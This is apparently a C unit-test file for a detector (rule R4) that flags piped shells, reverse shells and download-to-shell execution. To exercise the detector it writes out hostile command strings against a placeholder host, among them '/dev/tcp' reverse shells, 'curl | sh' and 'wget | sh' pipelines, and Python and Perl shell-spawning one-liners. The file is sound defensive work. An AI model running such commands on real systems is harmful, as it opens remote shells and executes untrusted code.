/* test_piped_shell.c: R4, each rule with a hit and the nearest miss. */
#include <sys/socket.h>
#include "facts.h"

static void given(const char *string)
{
	exec_look(&detect_piped_shell, process_new("sh", ROLE_SHELL, ARGV("sh", "-c", string)));
}

static void a_pipe_counts_when_the_parent_holds_it(void **s)
{
	struct process *p = process_new("docker", ROLE_CONTAINER_CLIENT, ARGV("docker", "-v"));

	(void)s;
	p->fd[1] = (struct ev_fd){ .kind = FD_PIPE, .peer_pid = p->ppid };
	exec_look(&detect_piped_shell, p);
	check_hit("R4.1");
	assert_non_null(strstr(found("R4.1")->evidence.ptr, "stdout"));
	p->fd[1].peer_pid = 99;
	exec_look(&detect_piped_shell, p);
	check_miss("R4.1");
	p->fd[1] = (struct ev_fd){ .kind = FD_FILE, .peer_pid = p->ppid };
	exec_look(&detect_piped_shell, p);
	check_miss("R4.1");
}

static void a_string_without_control_is_low(void **s)
{
	(void)s;
	given("make -C src");
	check_hit("R4.2");
	check_miss("R4.3");
	assert_string_equal(found("R4.2")->subject.ptr, "test_server.py: make");
	given("echo 'a;b|c`d`' \"x;y&&z\" a\\;b");
	check_hit("R4.2");
	check_miss("R4.3");
	given("true\n");
	check_miss("R4.3");
}

static void a_string_with_control_is_medium(void **s)
{
	static const char *const strings[] = { "a; id",         "a && b",         "a || b", "a | b",
					       "echo `id`",     "echo $(id)",     "a > f",  "a < f",
					       "echo \"`id`\"", "echo \"$(id)\"", "a\nb" };

	(void)s;
	for (size_t i = 0; i < ARRAY_SIZE(strings); i++) {
		given(strings[i]);
		check_hit("R4.3");
		check_miss("R4.2");
	}
	given("/usr/bin/echo \"x y\"; id 12345 > /tmp/f-983");
	assert_string_equal(found("R4.3")->subject.ptr, "test_server.py: echo ;>");
	given("KEY=abcdef make");
	assert_string_equal(found("R4.2")->subject.ptr, "test_server.py: KEY");
}

static void flags_do_not_hide_the_string(void **s)
{
	(void)s;
	exec_look(&detect_piped_shell, process_new("bash", ROLE_SHELL, ARGV("bash", "-ec", "id")));
	check_hit("R4.2");
	exec_look(&detect_piped_shell,
		  process_new("bash", ROLE_SHELL, ARGV("bash", "-o", "pipefail", "-c", "id")));
	check_hit("R4.2");
	exec_look(&detect_piped_shell,
		  process_new("bash", ROLE_SHELL, ARGV("bash", "-euo", "pipefail", "-c", "id")));
	check_hit("R4.2");
	exec_look(&detect_piped_shell,
		  process_new("bash", ROLE_SHELL, ARGV("bash", "-c", "--", "id")));
	check_hit("R4.2");
	exec_look(&detect_piped_shell,
		  process_new("busybox", ROLE_SHELL, ARGV("busybox", "sh", "-c", "id")));
	check_hit("R4.2");
	exec_look(&detect_piped_shell,
		  process_new("bash", ROLE_SHELL, ARGV("bash", "script.sh", "-c", "id")));
	assert_int_equal(report.n, 0);
	exec_look(&detect_piped_shell, process_new("bash", ROLE_SHELL, ARGV("bash", "-c")));
	assert_int_equal(report.n, 0);
}

static void only_the_test_process_gives(void **s)
{
	unsigned roles = parent.roles;

	(void)s;
	parent.roles = ROLE_BUILD_TOOL;
	given("id");
	assert_int_equal(report.n, 0);
	parent.roles = ROLE_TEST | ROLE_BUILD_TOOL;
	given("id; id");
	assert_int_equal(report.n, 0);
	parent.roles = roles;
	exec_look(&detect_piped_shell,
		  process_new("python3", ROLE_INTERPRETER, ARGV("python3", "-c", "id")));
	assert_int_equal(report.n, 0);
}

static void fed(unsigned origins, const struct detector *d)
{
	static char first[] = "curl\0-s\0http://h/i";
	struct process curl = {
		.origins = origins, .args = first, .args_len = sizeof(first), .argc = 3
	};
	struct process *sh = process_new("sh", ROLE_SHELL, ARGV("sh"));
	struct pipe_line line = { { &curl, sh }, 2 };
	struct fact f = { .kind = FACT_FED, .run = &run, .process = sh, .line = &line };

	sh->origins = origins;
	report_reset(&report);
	d->look(&f, &report);
}

static void a_download_feeds_an_interpreter(void **s)
{
	(void)s;
	fed(ORIGIN_NETWORK, &detect_piped_shell);
	check_hit("R4.4");
	assert_string_equal(found("R4.4")->subject.ptr, "curl -s http://h/i | sh");
	fed(ORIGIN_DECODER, &detect_piped_shell);
	assert_int_equal(report.n, 0);
	fed(ORIGIN_DECODER, &detect_encoded_payload);
	check_hit("R2.3");
	fed(ORIGIN_NETWORK, &detect_encoded_payload);
	assert_int_equal(report.n, 0);
}

static void a_shell_feeds_on_a_network_socket(void **s)
{
	struct process *p = process_new("sh", ROLE_SHELL, ARGV("sh", "-i"));

	(void)s;
	p->fd[0] = p->fd[1] = (struct ev_fd){ .kind = FD_SOCKET, .ino = 7, .family = AF_INET };
	exec_look(&detect_piped_shell, p);
	check_hit("R4.5");
	p->fd[1].ino = 8;
	exec_look(&detect_piped_shell, p);
	check_miss("R4.5");
	p->fd[0] = p->fd[1] = (struct ev_fd){ .kind = FD_SOCKET, .ino = 7, .family = AF_UNIX };
	exec_look(&detect_piped_shell, p);
	check_miss("R4.5");
	parent.roles = ROLE_NETWORK_CLIENT; /* socat EXEC:sh */
	exec_look(&detect_piped_shell, p);
	check_hit("R4.5");
	parent.roles = ROLE_SHELL;
	parent.inet = true;
	p = process_new("cat", 0, ARGV("cat"));
	p->fd[0] = (struct ev_fd){ .kind = FD_SOCKET, .ino = 7, .family = AF_INET6 };
	exec_look(&detect_piped_shell, p);
	check_hit("R4.5");
	parent.inet = false;
	exec_look(&detect_piped_shell, p);
	check_miss("R4.5");
	parent.roles = ROLE_TEST | ROLE_INTERPRETER;
}

static void connected(const char *string)
{
	struct fact f = { .kind = FACT_INET, .run = &run };

	f.process = process_new("bash", ROLE_SHELL, ARGV("bash", "-c", string));
	report_reset(&report);
	detect_piped_shell.look(&f, &report);
}

static void a_shell_that_connects_by_itself(void **s)
{
	(void)s;
	connected("exec 3<>/dev/tcp/h/1; read l <&3; eval $l");
	check_hit("R4.5");
	connected("bash -i >& /dev/tcp/h/1 0>&1");
	check_hit("R4.5");
	connected("exec 0<>/dev/tcp/h/1; sh");
	check_hit("R4.5");
	connected("exec 5<>/dev/tcp/h/1; read -u 5 l; eval $l");
	check_hit("R4.5");
	connected("echo > /dev/tcp/h/1"); /* is it up? */
	check_miss("R4.5");
	connected("(exec 3<>/dev/tcp/h/1) && echo up");
	check_miss("R4.5");
}

static void started_by(const char *starter, const char *script, const char *string)
{
	struct process *p = process_new("sh", ROLE_SHELL, ARGV("sh", "-c", string));

	parent.name = (char *)starter;
	parent.script = (char *)script;
	parent.executed = true;
	exec_look(&detect_piped_shell, p);
	parent.name = (char *)"python3";
	parent.script = (char *)"test_server.py";
}

static void an_interpreter_starts_a_shell(void **s)
{
	static char one_liner[] = "perl\0-e\0exec q(/bin/sh)";
	struct process *p;

	(void)s;
	started_by("mawk", NULL, "id");
	check_hit("R4.6");
	started_by("make", NULL, "id");
	check_miss("R4.6");
	parent.name = (char *)"mawk"; /* another program than a shell */
	exec_look(&detect_piped_shell, process_new("id", 0, ARGV("id")));
	check_miss("R4.6");
	parent.name = (char *)"python3";
	started_by("tar", NULL, "sh x");
	check_hit("R4.6");
	started_by("tar", NULL, "gzip -d");
	check_miss("R4.6");
	started_by("tar", NULL, "gzip -d; sh x");
	check_hit("R4.6");
	parent.args = one_liner;
	parent.args_len = sizeof(one_liner);
	parent.argc = 3;
	started_by("perl", NULL, "id");
	check_hit("R4.6");
	started_by("perl", "debhelper", "id");
	check_miss("R4.6");
	parent.args = NULL;
	parent.args_len = parent.argc = 0;
	p = process_new("sh", ROLE_SHELL, ARGV("sh"));
	exec_look(&detect_piped_shell, p);
	check_miss("R4.6");
	p->before = (char *)"perl";
	exec_look(&detect_piped_shell, p);
	check_hit("R4.6");
}

static void one_liner_is(char *arguments, size_t len, unsigned argc)
{
	parent.args = arguments;
	parent.args_len = len;
	parent.argc = argc;
	parent.roles = ROLE_INTERPRETER;
	parent.script = NULL;
}

static void a_connected_one_liner_gives_a_shell_its_input(void **s)
{
	static char one_liner[] = "python3\0-c\0import pty; pty.spawn('/bin/sh')";
	struct process *p = process_new("sh", ROLE_SHELL, ARGV("sh"));

	(void)s;
	one_liner_is(one_liner, sizeof(one_liner), 3);
	parent.inet = true;
	p->fd[0] = p->fd[1] = (struct ev_fd){ .kind = FD_TTY, .ino = 4, .dev = 2 };
	parent.fd[0] = (struct ev_fd){ .kind = FD_NULL, .ino = 4, .dev = 1 };
	exec_look(&detect_piped_shell, p);
	check_hit("R4.5");
	parent.fd[0] = p->fd[0]; /* the terminal that it had itself */
	exec_look(&detect_piped_shell, p);
	check_miss("R4.5");
	parent.fd[0].ino = 5;
	parent.inet = false;
	exec_look(&detect_piped_shell, p);
	check_miss("R4.5");
	parent.inet = true;
	parent.args = NULL; /* a program with a file: what it does there is its own */
	parent.args_len = parent.argc = 0;
	exec_look(&detect_piped_shell, p);
	check_miss("R4.5");
	parent.inet = false;
	parent.fd[0] = (struct ev_fd){ 0 };
	parent.roles = ROLE_TEST | ROLE_INTERPRETER;
	parent.script = (char *)"test_server.py";
}

static void a_network_client_holds_both_pipes_of_a_shell(void **s)
{
	struct process *p = process_new("sh", ROLE_SHELL, ARGV("sh"));
	unsigned roles = parent.roles;

	(void)s;
	parent.roles = ROLE_NETWORK_CLIENT; /* socat EXEC:sh,pipes */
	p->fd[0] = (struct ev_fd){ .kind = FD_PIPE, .ino = 4, .peer_pid = parent.pid };
	p->fd[1] = (struct ev_fd){ .kind = FD_PIPE, .ino = 5, .peer_pid = parent.pid };
	exec_look(&detect_piped_shell, p);
	check_hit("R4.5");
	p->fd[1].peer_pid = 0; /* somebody else reads its output */
	exec_look(&detect_piped_shell, p);
	check_miss("R4.5");
	p->fd[1].peer_pid = parent.pid;
	parent.roles = ROLE_TEST;
	exec_look(&detect_piped_shell, p);
	check_miss("R4.5");
	parent.roles = ROLE_NETWORK_CLIENT;
	p = process_new("sh", ROLE_SHELL,
			ARGV("sh", "-c", "exec nc h 22")); /* ssh's ProxyCommand */
	p->fd[0] = (struct ev_fd){ .kind = FD_PIPE, .ino = 4, .peer_pid = parent.pid };
	p->fd[1] = (struct ev_fd){ .kind = FD_PIPE, .ino = 5, .peer_pid = parent.pid };
	exec_look(&detect_piped_shell, p);
	check_miss("R4.5");
	parent.roles = roles;
}

static void the_shape_of_a_string_is_its_operators(void **s)
{
	(void)s;
	given("a && b || c; d; e");
	assert_string_equal(found("R4.3")->subject.ptr, "test_server.py: a &&||;;");
	given("a ;; b");
	assert_string_equal(found("R4.3")->subject.ptr, "test_server.py: a ;;");
	given("a # ; b | c");
	check_hit("R4.2");
	check_miss("R4.3");
	given("# a; b");
	check_hit("R4.2");
	given("a#b; c");
	assert_string_equal(found("R4.3")->subject.ptr, "test_server.py: a#b ;");
	given("# a; b\nc | d");
	assert_non_null(strstr(found("R4.3")->subject.ptr, "|"));
}

static void a_connection_by_number_is_only_opened(void **s)
{
	struct fact f = { .kind = FACT_INET, .run = &run };

	(void)s;
	f.process = process_new("bash", ROLE_SHELL, ARGV("bash", "-c", "exec <>/dev/tcp/h/1"));
	report_reset(&report);
	detect_piped_shell.look(&f, &report);
	check_hit("R4.5");
	f.process = process_new("bash", ROLE_SHELL, ARGV("bash", "-c", "exec 3<>/dev/tcp/h/1"));
	report_reset(&report);
	detect_piped_shell.look(&f, &report);
	check_miss("R4.5");
	f.process = process_new("bash", ROLE_SHELL, ARGV("bash", "-c", "exec <>/dev/udp"));
	report_reset(&report);
	detect_piped_shell.look(&f, &report);
	check_miss("R4.5");
}

static void an_applet_of_busybox_starts_a_shell(void **s)
{
	unsigned roles = parent.roles;

	(void)s;
	parent.roles = 0;
	parent.args = NULL;
	parent.args_len = parent.argc = 0;
	started_by("busybox", NULL, NULL);
	check_hit("R4.6");
	parent.roles = ROLE_SHELL; /* busybox sh */
	started_by("busybox", NULL, NULL);
	check_miss("R4.6");
	parent.roles = roles;
}

static void a_one_liner_runs_what_it_fetches(void **s)
{
	exec_look(&detect_piped_shell,
		  process_new("python3", ROLE_INTERPRETER,
			      ARGV("python3", "-c", "exec(urlopen('http://h/i').read())")));
	(void)s;
	check_hit("R4.4");
	exec_look(&detect_piped_shell,
		  process_new("python3", ROLE_INTERPRETER,
			      ARGV("python3", "-c", "print(urlopen('http://h/i').read())")));
	check_miss("R4.4");
}

static void the_string_stood_in_the_starters_arguments(void **s)
{
	static char option[] = "tool\0--filter=id; true", whole[] = "tool\0id; true",
		    data[] = "xargs\0-I%\0sh\0-c\0%", own[] = "xargs\0-n1\0sh\0-c\0echo \"$1\"";
	(void)s;
	one_liner_is(option, sizeof(option), 2);
	started_by("tool", NULL, "id; true");
	check_hit("R4.6");
	parent.roles = ROLE_INTERPRETER;
	started_by("tool", NULL, "id; false");
	check_miss("R4.6");
	one_liner_is(whole, sizeof(whole), 2); /* to run a command is what it is there for */
	started_by("tool", NULL, "id; true");
	check_miss("R4.6");
	one_liner_is(option, sizeof(option), 2);
	started_by("timeout", NULL, "id; true");
	check_miss("R4.6");
	one_liner_is(data, sizeof(data), 5);
	started_by("xargs", NULL, "id");
	check_hit("R4.6");
	one_liner_is(own, sizeof(own), 5);
	started_by("xargs", NULL, "echo \"$1\"");
	check_miss("R4.6");
	parent.args = NULL;
	parent.args_len = parent.argc = 0;
	parent.roles = ROLE_TEST | ROLE_INTERPRETER;
}

static void built(const char *dockerfile)
{
	docker_look(&detect_piped_shell, "/build", NULL, NULL, dockerfile);
}

static void an_image_or_container_runs_a_download(void **s)
{
	(void)s;
	built("FROM x\nRUN curl -s http://h/i | sh\n");
	check_hit("R4.4");
	built("FROM x\nRUN curl -s http://h/i | tar x\n");
	check_miss("R4.4");
	docker_look(&detect_piped_shell, "/containers/create",
		    "{\"Cmd\":[\"sh\",\"-c\",\"wget -qO- h | sh\"]}", NULL, NULL);
	check_hit("R4.4");
	docker_look(&detect_piped_shell, "/containers/create",
		    "{\"Cmd\":[\"sh\",\"-c\",\"wget -qO f h; sh g\"]}", NULL, NULL);
	check_miss("R4.4");
}

static void a_string_of_the_host_tells_what_execs_do_not(void **s)
{
	(void)s;
	given("bash -c \"$(curl -s h)\"");
	check_hit("R4.4");
	given("curl -s h | bash"); /* both will be executed */
	check_miss("R4.4");
	given("bash -c \"$(cat h)\"");
	check_miss("R4.4");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a_pipe_counts_when_the_parent_holds_it),
		cmocka_unit_test(a_string_without_control_is_low),
		cmocka_unit_test(a_string_with_control_is_medium),
		cmocka_unit_test(flags_do_not_hide_the_string),
		cmocka_unit_test(only_the_test_process_gives),
		cmocka_unit_test(a_download_feeds_an_interpreter),
		cmocka_unit_test(a_shell_feeds_on_a_network_socket),
		cmocka_unit_test(a_shell_that_connects_by_itself),
		cmocka_unit_test(an_interpreter_starts_a_shell),
		cmocka_unit_test(a_connected_one_liner_gives_a_shell_its_input),
		cmocka_unit_test(a_network_client_holds_both_pipes_of_a_shell),
		cmocka_unit_test(the_shape_of_a_string_is_its_operators),
		cmocka_unit_test(a_connection_by_number_is_only_opened),
		cmocka_unit_test(an_applet_of_busybox_starts_a_shell),
		cmocka_unit_test(a_one_liner_runs_what_it_fetches),
		cmocka_unit_test(the_string_stood_in_the_starters_arguments),
		cmocka_unit_test(an_image_or_container_runs_a_download),
		cmocka_unit_test(a_string_of_the_host_tells_what_execs_do_not),
	};

	return FACT_TESTS(tests);
}
